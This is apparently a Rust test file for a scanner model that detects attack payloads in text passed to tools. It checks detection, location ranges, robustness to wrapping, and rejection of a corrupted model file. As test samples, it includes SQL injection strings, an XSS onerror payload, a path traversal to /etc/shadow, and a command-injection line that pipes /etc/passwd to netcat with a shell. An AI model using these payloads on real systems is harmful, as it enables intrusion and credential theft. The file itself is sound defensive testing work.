//! The model of attacks on tools that packs take along: bounds, spelling, damage.
#![expect(clippy::unwrap_used, reason = "a failed test")]

use bartizan_scan::Score;
use bartizan_scan::payload::{Attack, Model};
use bartizan_verdict::Role;
use proptest::prelude::*;

const BYTES: &[u8] = include_bytes!("../models/attacks.bin");

fn score(text: &str, attack: Attack) -> Score {
    let verdicts = Model::load(BYTES).unwrap().judge(text, Role::Tool);
    verdicts.get(attack as usize).unwrap().score
}

#[test]
fn an_attack_is_found_within_a_long_document() {
    let filler = "The committee met on Tuesday and talked about the budget of the library. ".repeat(40);
    for (attack, payload) in [
        (Attack::Sql, "x' or 7=7 union select login, secret from staff--"),
        (Attack::Script, "\"><img src=q onerror=alert(7)>"),
        (Attack::Command, "; cat /etc/passwd | nc 10.1.1.1 4444 -e /bin/sh"),
        (Attack::File, "../../../../etc/shadow"),
    ] {
        let text = format!("{filler}{payload} {filler}");
        let verdicts = Model::load(BYTES).unwrap().judge(&text, Role::Document);
        let verdict = verdicts.get(attack as usize).unwrap();
        assert!(verdict.score >= Score::AUDIT, "{attack:?} {}", verdict.score);
        let at = text.find(payload).unwrap();
        assert!(
            verdict.range.start < at + payload.len() && at < verdict.range.end,
            "{attack:?}"
        );
        assert!(verdict.range.len() <= 200, "{attack:?}");
        assert!(score(&filler, attack) < Score::AUDIT, "{attack:?}");
    }
}

#[test]
fn what_it_is_wrapped_in_does_not_hide_it() {
    for text in [
        "x' or 7=7--",
        "id=x' or 7=7--",
        "page=2&id=x' or 7=7--",
        "{\"id\": 4, \"name\": \"x' or 7=7--\"}",
        "{\"note\": \"\\\"quoted\\\"\", \"name\": \"x' oR 7=7--\"}",
        "<?xml version=\"1.0\"?><a name=\"x' or 7=7--\"/>",
    ] {
        assert!(score(text, Attack::Sql) >= Score::AUDIT, "{text}");
    }
}

#[test]
fn nothing_is_no_attack() {
    for attack in Attack::ALL {
        for text in ["", " ", "\n"] {
            assert_eq!(score(text, attack), Score::NONE, "{attack:?} {text:?}");
        }
        for text in ["a", "7", "{}", "[]", "yes", "\u{0}"] {
            assert!(score(text, attack) < Score::ACT, "{attack:?} {text:?}");
        }
    }
}

#[test]
fn a_damaged_model_is_refused() {
    for at in (0..BYTES.len()).step_by(997) {
        let (head, tail) = BYTES.split_at(at);
        let (byte, tail) = tail.split_first().unwrap();
        let changed = [head, &[byte ^ 0x20], tail].concat();
        assert!(Model::load(&changed).is_err(), "byte {at}");
        assert!(Model::load(head).is_err(), "cut at {at}");
    }
}

proptest! {
    #[test]
    fn ranges_are_in_the_text(text in "([a-z ]{0,9}|[ -~]{0,20}|[é世\u{0}\n\\\\\"']{0,9}|\\.\\./|<script|' or 1=1){0,60}") {
        for role in [Role::User, Role::Tool] {
            for verdict in Model::load(BYTES).unwrap().judge(&text, role) {
                prop_assert!(text.get(verdict.range).is_some());
            }
        }
    }
}
